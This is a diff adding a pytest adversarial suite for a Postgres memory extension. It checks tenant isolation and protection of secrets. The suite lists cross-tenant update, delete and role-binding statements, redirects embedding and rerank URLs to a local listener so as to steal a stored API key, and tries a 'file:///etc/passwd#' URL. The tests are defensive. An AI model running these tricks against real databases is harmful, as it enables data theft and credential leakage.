@@ -1,0 +1,353 @@
+"""Tenants isolated by the database, and secrets kept from callers: an adversarial suite run as real
+logins — a role bound to tenant acme, an application role (memory_app) and a role with no grant —
+against a database holding tenants acme and globex. Every attempt counts; the suite prints how many
+it made and asserts 0 foreign rows returned, 0 foreign rows changed, 0 secrets received.
+"""
+
+from __future__ import annotations
+
+import uuid
+from collections.abc import Iterator
+
+import psycopg
+import pytest
+from conftest import Logins
+from http_stub import Stub
+from psycopg import sql
+from psycopg.types.json import Json, Jsonb
+
+SECRET = "sk-owner-" + uuid.uuid4().hex
+TENANT_TABLES = [
+    "sessions",
+    "turns",
+    "speakers",
+    "chunks",
+    "lexicon",
+    "corpus",
+    "chunk_embeddings",
+    "summaries",
+    "session_embeddings",
+    "jobs",
+    "feedback",
+]
+
+
+@pytest.fixture
+def two_tenants(db, logins) -> Iterator[tuple[psycopg.Connection, Logins, dict]]:
+    """acme and globex, each with one enriched session (local embedder), committed; globex's ids."""
+    db.commit()
+    db.autocommit = True
+    for tenant in ("acme", "globex"):
+        db.execute("select set_config('memory.tenant_id', %s, false)", (tenant,))
+        messages = [
+            {"role": "user", "content": f"{tenant} keeps the launch codes in the blue vault"},
+            {"role": "assistant", "content": f"Noted: the {tenant} launch codes are in the blue vault."},
+        ]
+        db.execute("select memory.commit('plans', %s, enrich => 'now')", (Json(messages),))
+        db.execute("select memory.remember(%s)", (f"{tenant} prefers tea",))
+    db.execute("reset memory.tenant_id")
+    globex = db.execute("select min(turn_key), count(*) from memory.turns where tenant_id = 'globex'").fetchone()
+    counts = {
+        table: db.execute(f"select count(*) from memory.{table} where tenant_id = 'globex'").fetchone()[0]
+        for table in TENANT_TABLES
+    }
+    yield db, logins, {"turn": globex[0], "turns": globex[1], "counts": counts}
+
+
+def foreign(rows: list[tuple], marker: str = "globex") -> int:
+    return sum(marker in repr(row) for row in rows)
+
+
+def attempt(conn: psycopg.Connection, query: str, params: tuple = ()) -> list[tuple]:
+    """Rows a statement returns; an error (refused) returns none."""
+    try:
+        with conn.transaction():
+            cursor = conn.execute(query, params)
+            return cursor.fetchall() if cursor.description else []
+    except psycopg.Error:
+        return []
+
+
+def globex_unchanged(db: psycopg.Connection, before: dict) -> None:
+    after = {
+        table: db.execute(f"select count(*) from memory.{table} where tenant_id = 'globex'").fetchone()[0]
+        for table in TENANT_TABLES
+    }
+    assert after == before["counts"]
+    trust, content = db.execute(
+        "select trust, content from memory.turns where turn_key = %s", (before["turn"],)
+    ).fetchone()
+    assert (trust, content) == (1, "globex keeps the launch codes in the blue vault")
+
+
+def reads(conn: psycopg.Connection, turn: int) -> list[tuple[str, tuple]]:
+    """Every way to read a tenant's rows: tables, views and the public functions."""
+    return [
+        *[(f"select * from memory.{t}", ()) for t in TENANT_TABLES],
+        ("select * from memory.turns where tenant_id = 'globex'", ()),
+        ("select * from memory.turns where turn_key = %s", (turn,)),
+        ("select * from memory.queue_status", ()),
+        ("select * from memory.feedback_summary", ()),
+        ("select * from memory.recall('launch codes vault', k => 50)", ()),
+        ("select * from memory.recall('globex launch codes', k => 50, level => 'session')", ()),
+        ("select * from memory.explain_recall('globex launch codes vault')", ()),
+        ("select * from memory.export()", ()),
+        ("select * from memory.export('default', 'plans')", ()),
+        ("select * from memory.bootstrap()", ()),
+        ("select * from memory.context_for_task('launch codes')", ()),
+        ("select * from memory.stats()", ()),
+        ("select memory.current_tenant()", ()),
+    ]
+
+
+def writes(turn: int) -> list[tuple[str, tuple]]:
+    """Every way to change another tenant's rows."""
+    return [
+        ("select * from memory.feedback(%s, false)", (turn,)),
+        ("select * from memory.feedback(%s, true)", (turn,)),
+        ("select * from memory.forget('plans')", ()),
+        ("update memory.turns set content = 'owned', trust = 0.05 where tenant_id = 'globex'", ()),
+        ("delete from memory.turns where tenant_id = 'globex'", ()),
+        ("delete from memory.sessions where tenant_id = 'globex'", ()),
+        ("update memory.sessions set tenant_id = 'acme' where tenant_id = 'globex'", ()),
+        ("update memory.turns set tenant_id = 'globex' where tenant_id = 'acme'", ()),
+        (
+            "insert into memory.sessions (tenant_id, agent_id, session_id) values ('globex', 'default', 'planted')",
+            (),
+        ),
+        ("insert into memory.tenant_roles values (current_user, 'globex')", ()),
+        ("select memory.bind_tenant_role(current_user::regrole, 'globex')", ()),
+        ("insert into memory.config values ('text_search_config', '\"simple\"')", ()),
+        ("update memory.signals set default_weight = 0", ()),
+        ("delete from memory.signals", ()),
+        ("select memory.set_secret('openai_api_key', 'sk-mine', 'http://127.0.0.1:9')", ()),
+    ]
+
+
+TENANT_SWITCHES = [
+    "set memory.tenant_id = 'globex'",
+    "select set_config('memory.tenant_id', 'globex', false)",
+    "set role memory_app",  # a bound login that takes up the group role it was granted
+]
+
+
+def test_a_role_bound_to_a_tenant_sees_and_changes_only_its_own(two_tenants, capsys):
+    db, logins, globex = two_tenants
+    acme = logins.create(tenant="acme")
+    own = "select content from memory.recall('launch codes vault', k => 1)"
+    assert acme.execute(own).fetchall() == [("acme keeps the launch codes in the blue vault",)]
+    attempts = returned = 0
+    for switch in ["", *TENANT_SWITCHES]:
+        if switch:
+            acme.execute(switch)
+        for query, params in reads(acme, globex["turn"]):
+            attempts += 1
+            returned += foreign(attempt(acme, query, params))
+        assert acme.execute("select memory.current_tenant()").fetchone()[0] == "acme"
+        for query, params in writes(globex["turn"]):  # forget('plans') forgets acme's own session
+            attempts += 1
+            attempt(acme, query, params)
+    globex_unchanged(db, globex)
+    assert returned == 0
+    with capsys.disabled():
+        print(f"\n  tenant-bound role: {attempts} cross-tenant attempts, 0 foreign rows returned, 0 changed")
+
+
+def test_an_application_role_sees_the_tenant_it_chose_and_only_that(two_tenants, capsys):
+    db, logins, globex = two_tenants
+    app = logins.create()
+    app.execute("set memory.tenant_id = 'acme'")
+    attempts = returned = 0
+    for query, params in reads(app, globex["turn"]):
+        attempts += 1
+        returned += foreign(attempt(app, query, params))
+    for query, params in writes(globex["turn"]):
+        attempts += 1
+        attempt(app, query, params)
+    globex_unchanged(db, globex)
+    assert returned == 0
+    # switching is what it may do: then it sees globex, and no longer acme
+    app.execute("set memory.tenant_id = 'globex'")
+    rows = app.execute("select content from memory.turns order by turn_key").fetchall()
+    assert rows and all("globex" in content for (content,) in rows)
+    with capsys.disabled():
+        print(f"\n  application role: {attempts} cross-tenant attempts, 0 foreign rows returned, 0 changed")
+
+
+def test_an_application_role_commits_enriches_and_recalls_with_vectors(two_tenants):
+    _, logins, _ = two_tenants
+    app = logins.create()
+    app.execute("set memory.tenant_id = 'initech'")
+    app.execute(
+        "select memory.commit('s', %s, enrich => 'now')",
+        (Json([{"role": "user", "content": "the staging database moved to a larger disk"}]),),
+    )
+    hit = app.execute(
+        "select content, components -> 'signals' -> 'dense' ->> 'value' from memory.recall('storage upgrade', k => 1)"
+    ).fetchone()
+    assert hit[0] == "the staging database moved to a larger disk"
+    assert float(hit[1]) > 0.2  # the local model's vectors, used without any secret
+
+
+def test_a_role_without_memory_app_is_refused_by_name(two_tenants):
+    _, logins, _ = two_tenants
+    stranger = logins.create(grant_app=False)
+    with pytest.raises(psycopg.errors.InsufficientPrivilege):
+        stranger.execute("select * from memory.recall('launch codes')")
+    with pytest.raises(psycopg.errors.InsufficientPrivilege):
+        stranger.execute("select * from memory.turns")
+
+
+def test_a_role_granted_the_tables_but_no_tenant_is_refused_by_name(two_tenants):
+    db, logins, _ = two_tenants
+    stranger = logins.create(grant_app=False)
+    name = stranger.info.user
+    db.execute(sql.SQL("grant usage on schema memory to {}").format(sql.Identifier(name)))
+    db.execute(sql.SQL("grant select on all tables in schema memory to {}").format(sql.Identifier(name)))
+    db.execute(sql.SQL("grant execute on all functions in schema memory to {}").format(sql.Identifier(name)))
+    try:
+        with pytest.raises(psycopg.errors.RaiseException, match=f"role {name} has no tenant"):
+            stranger.execute("select * from memory.turns")
+    finally:
+        db.execute(sql.SQL("drop owned by {}").format(sql.Identifier(name)))
+
+
+@pytest.fixture
+def owner_secret(two_tenants) -> Iterator[tuple[psycopg.Connection, Logins]]:
+    """The owner's OpenAI key, stored for api.openai.com."""
+    db, logins, _ = two_tenants
+    db.execute("select memory.set_secret('openai_api_key', %s, 'https://api.openai.com/v1')", (SECRET,))
+    db.execute("select memory.set_secret('rerank_api_key', %s, 'https://api.cohere.com')", (SECRET,))
+    yield db, logins
+
+
+def exfiltration_attempts(listener: str) -> list[tuple[str, tuple]]:
+    settings = {
+        "embedder": "openai",
+        "openai_base_url": listener,
+        "openai_embedding_model": "m",
+        "openai_embedding_dimensions": 8,
+        "http_timeout_seconds": 1,
+        "http_retries": 0,
+    }
+    session_tricks = [
+        (f"set memory.openai_base_url = '{listener}'", ()),
+        ("set memory.embedder = 'openai'", ()),
+        ("select memory.embed(array['hello'])", ()),
+        ("select * from memory.recall('hello')", ()),
+        (f"set memory.rerank_url = '{listener}/rerank'", ()),
+        ("set memory.rerank = 'http'", ()),
+        ("select * from memory.recall('hello')", ()),
+        ("select memory.setting('openai_base_url')", ()),
+    ]
+    # Direct calls first: a session setting of the administrator's, once set, fails every later call.
+    return [
+        ("select * from memory.recall('hello', weights => %s)", (Jsonb({"rerank": "http", "rerank_url": listener}),)),
+        ("select * from memory.recall('hello', weights => %s)", (Jsonb({"openai_base_url": listener}),)),
+        ("select memory._embed_texts(array['hello'], memory._settings_json() || %s)", (Jsonb(settings),)),
+        (
+            "select memory._embed_texts(array['hello'], memory._settings_json() || %s)",
+            (Jsonb({**settings, "openai_base_url": "file:///etc/passwd#"}),),
+        ),
+        (
+            "select memory._rerank('q', array['d'], memory._settings_json() || %s)",
+            (Jsonb({"rerank": "http", "rerank_url": listener + "/rerank", "rerank_timeout_seconds": 1}),),
+        ),
+        (
+            'select * from memory._summarize_turns(\'[{"role": "user", "content": "hi"}]\', '
+            "memory._settings_json() || %s)",
+            (Jsonb({**settings, "summarizer": "llm", "openai_chat_model": "m"}),),
+        ),
+        ("select * from memory._secrets", ()),
+        *session_tricks,
+    ]
+
+
+@pytest.mark.parametrize("bound", [True, False], ids=["tenant-bound role", "application role"])
+def test_no_secret_reaches_a_listener_whatever_the_caller_sets(owner_secret, bound, capsys):
+    _, logins = owner_secret
+    caller = logins.create(tenant="acme" if bound else None)
+    with Stub() as listener:
+        attempts = exfiltration_attempts(listener.base_url)
+        answers = [attempt(caller, query, params) for query, params in attempts]
+        received = [auth for _, _, auth in listener.requests if auth and SECRET in auth]
+    assert received == []
+    assert listener.requests == []  # nor anything else: the endpoints are the administrator's
+    assert all(SECRET not in repr(rows) and "root:" not in repr(rows) for rows in answers)
+    with capsys.disabled():
+        print(f"\n  {len(attempts)} secret-exfiltration attempts: {len(received)} secrets received")
+
+
+def test_a_key_goes_only_to_its_host_even_from_the_owners_session(owner_secret):
+    db, _ = owner_secret
+    with Stub() as listener:
+        db.execute("set memory.embedder = 'openai'")
+        db.execute(sql.SQL("set memory.openai_base_url = {}").format(listener.base_url))
+        with pytest.raises(psycopg.errors.InternalError_, match=r"is stored for host api\.openai\.com"):
+            db.execute("select memory.embed(array['hello'])")
+        db.execute("set memory.openai_base_url = 'file:///etc/passwd#'")
+        with pytest.raises(psycopg.errors.InternalError_, match="scheme 'file' is not allowed") as refused:
+            db.execute("select memory.embed(array['hello'])")
+        assert "root:" not in str(refused.value)
+        assert listener.requests == []
+
+
+def test_a_session_setting_of_the_administrators_is_refused_by_name(two_tenants):
+    _, logins, _ = two_tenants
+    app = logins.create()
+    app.execute("set memory.openai_base_url = 'http://127.0.0.1:9/v1'")
+    with pytest.raises(psycopg.errors.RaiseException, match='setting "openai_base_url" is the administrator'):
+        app.execute("select * from memory.recall('hello')")
+    app.execute("reset memory.openai_base_url")
+    with pytest.raises(psycopg.errors.RaiseException, match='setting "rerank_url" is the administrator'):
+        app.execute("select * from memory.recall('hello', weights => %s)", (Jsonb({"rerank_url": "http://x"}),))
+
+
+def test_an_admin_stores_secrets_writes_settings_and_binds_roles(two_tenants):
+    db, logins, _ = two_tenants
+    admin = logins.create(grant_app=False)
+    db.execute(sql.SQL("grant memory_admin to {}").format(sql.Identifier(admin.info.user)))
+    admin.execute("select memory.set_secret('openai_api_key', 'sk-admin', 'https://api.openai.com')")
+    admin.execute("insert into memory.config values ('bm25_k1', '1.2')")
+    admin.execute("delete from memory.config where key = 'bm25_k1'")
+    bound = logins.create()
+    admin.execute("select memory.bind_tenant_role(%s, 'acme')", (bound.info.user,))
+    assert bound.execute("select memory.current_tenant()").fetchone()[0] == "acme"
+    # every tenant's rows, for maintenance and the worker
+    tenants = {t for (t,) in admin.execute("select distinct tenant_id from memory.turns")}
+    assert {"acme", "globex"} <= tenants
+    assert db.execute("select host from memory._secrets where name = 'openai_api_key'").fetchone()[0] == (
+        "api.openai.com"
+    )
+
+
+def test_every_tenant_keyed_table_has_forced_row_level_security(db):
+    rows = db.execute(
+        """
+        select c.relname, c.relrowsecurity, c.relforcerowsecurity,
+               exists (select from pg_policy as p where p.polrelid = c.oid)
+        from pg_class as c
+        inner join pg_attribute as a on a.attrelid = c.oid and a.attname = 'tenant_id'
+        where c.relnamespace = 'memory'::regnamespace and c.relkind = 'r'
+        """
+    ).fetchall()
+    assert {name for name, *_ in rows} >= set(TENANT_TABLES)
+    assert [(name, rls, forced, policy) for name, rls, forced, policy in rows if not (rls and forced and policy)] == []
+
+
+def test_no_function_is_executable_by_public_and_no_view_runs_as_its_owner(db):
+    public = db.execute(
+        """
+        select p.oid::regprocedure::text from pg_proc as p
+        where p.pronamespace = 'memory'::regnamespace and has_function_privilege('public', p.oid, 'execute')
+        """
+    ).fetchall()
+    assert public == []
+    owners = db.execute(
+        """
+        select c.relname from pg_class as c
+        where c.relnamespace = 'memory'::regnamespace and c.relkind = 'v'
+            and not coalesce('security_invoker=true' = any(c.reloptions), false)
+        """
+    ).fetchall()
+    assert owners == []
